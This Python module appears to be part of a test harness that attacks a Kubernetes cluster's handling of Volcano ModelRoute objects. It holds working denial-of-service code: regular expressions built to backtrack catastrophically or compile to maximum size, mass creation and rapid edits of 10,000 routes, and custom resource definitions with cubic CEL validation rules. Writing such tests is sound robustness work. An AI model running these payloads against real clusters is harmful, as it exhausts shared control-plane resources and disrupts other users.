"""Attacks by authors of objects: rules and expressions that are expensive to evaluate, and many edits."""

from __future__ import annotations

import asyncio
import itertools
import json
from collections import Counter
from pathlib import Path
from typing import Any

import kube
from attack.target import Outcomes, Target

ROUTES = "/apis/networking.volcano.sh/v1alpha1/namespaces/default/modelroutes"
MANY_ROUTES = 10_000
EDITS_PER_S = 10
_MERGE = "application/merge-patch+json"


def route(name: str, rule: dict[str, Any] | None = None, weight: int = 100) -> bytes:
    target = {"targetModels": [{"modelServerName": "good", "weight": weight}]}
    return json.dumps(
        {
            "apiVersion": "networking.volcano.sh/v1alpha1",
            "kind": "ModelRoute",
            "metadata": {"name": name, "labels": {"made-by": "attack"}},
            "spec": {"modelName": name, "rules": [{"name": "all", **target, **(rule or {})}]},
        }
    ).encode()


async def regular_expressions(target: Target) -> Outcomes:
    """Create routes with patterns that compile to programs of the maximum size, and request a match."""
    patterns = [
        "(a{1,500}){1,2}" * 10,
        "((((a{1,30}){1,30})b){1,2}c){1,2}",
        "[^\\x00-\\x{10FFFF}a-z]{1,900}" * 3,
        "(x+x+)+y",
        "\\pL{1,300}\\pN{1,300}" * 3,
    ]
    connection = await _connect(target)
    outcomes: Outcomes = Counter()
    for number in itertools.count():
        if target.is_over:
            break
        pattern = patterns[number % len(patterns)]
        rule = {"modelMatch": {"headers": {"x-tenant": {"regex": pattern}}, "uri": {"regex": pattern}}}
        answer = await connection.request("POST", ROUTES, route(f"regex-{number}", rule))
        outcomes[str(answer.status)] += 1
    await connection.request("DELETE", f"{ROUTES}?labelSelector=made-by%3Dattack")
    connection.close()
    return outcomes


async def edits_among_many_routes(target: Target) -> Outcomes:
    """Change one of 10,000 routes ten times per second."""
    connection = await _connect(target)
    outcomes: Outcomes = Counter()
    for number in itertools.count():
        if target.is_over:
            break
        name = f"route-{number * 7919 % MANY_ROUTES:05d}"
        spec = json.loads(route(name, weight=1 + number % 100))["spec"]
        body = json.dumps({"spec": spec}).encode()
        answer = await connection.request("PATCH", f"{ROUTES}/{name}", body, _MERGE)
        outcomes[str(answer.status)] += 1
        await asyncio.sleep(1 / EDITS_PER_S)
    connection.close()
    return outcomes


async def make_many_routes(kubeconfig: str) -> None:
    """Create the routes that `edits_among_many_routes` changes."""
    cluster = kube.Cluster.load(Path(kubeconfig))
    numbers = iter(range(MANY_ROUTES))

    async def some() -> None:
        connection = await cluster.connect()
        for number in numbers:
            answer = await connection.request("POST", ROUTES, route(f"route-{number:05d}"))
            if answer.status not in (201, 409):
                raise RuntimeError(f"POST {ROUTES}: {answer.status} {answer.body[:200]!r}")
        connection.close()

    await asyncio.gather(*(some() for _ in range(4)))


async def expressions_of_foreign_kinds(target: Target) -> Outcomes:
    """Define a kind with cubic CEL rules, and write objects with lists that make them expensive."""
    outcomes: Outcomes = Counter()
    connection = await _connect(target)
    for kind, rule in (
        ("Cubic", "self.items.all(a, self.items.all(b, self.items.all(c, a + b + c >= 0)))"),
        ("Square", "self.items.all(a, self.items.exists(b, b == a))"),
        ("Pattern", "self.items.all(a, string(a).matches('(([0-9]+)+)+x'))"),
    ):
        answer = await connection.request("POST", _DEFINITIONS, _definition(kind, rule))
        outcomes[f"definition {answer.status}"] += 1
    items = list(range(2000))
    for number in itertools.count():
        if target.is_over:
            break
        for kind in ("Cubic", "Square", "Pattern"):
            path = f"/apis/attack.example/v1/namespaces/default/{kind.lower()}s"
            document = {
                "apiVersion": "attack.example/v1",
                "kind": kind,
                "metadata": {"name": f"n{number}"},
                "spec": {"items": items},
            }
            try:
                async with asyncio.timeout(20):
                    answer = await connection.request("POST", path, json.dumps(document).encode())
            except TimeoutError:
                outcomes["no response"] += 1
                connection.close()
                connection = await _connect(target)
                continue
            outcomes[str(answer.status)] += 1
    connection.close()
    return outcomes


_DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"


def _definition(kind: str, rule: str) -> bytes:
    items = {"type": "array", "items": {"type": "integer"}}
    spec = {
        "type": "object",
        "properties": {"items": items},
        "x-kubernetes-validations": [{"rule": rule}],
    }
    plural = kind.lower() + "s"
    return json.dumps(
        {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": {"name": f"{plural}.attack.example"},
            "spec": {
                "group": "attack.example",
                "names": {"kind": kind, "plural": plural, "singular": kind.lower()},
                "scope": "Namespaced",
                "versions": [
                    {
                        "name": "v1",
                        "served": True,
                        "storage": True,
                        "schema": {"openAPIV3Schema": {"type": "object", "properties": {"spec": spec}}},
                    }
                ],
            },
        }
    ).encode()


async def _connect(target: Target) -> kube.Connection:
    return await kube.Cluster.load(Path(target.admin_kubeconfig)).connect()
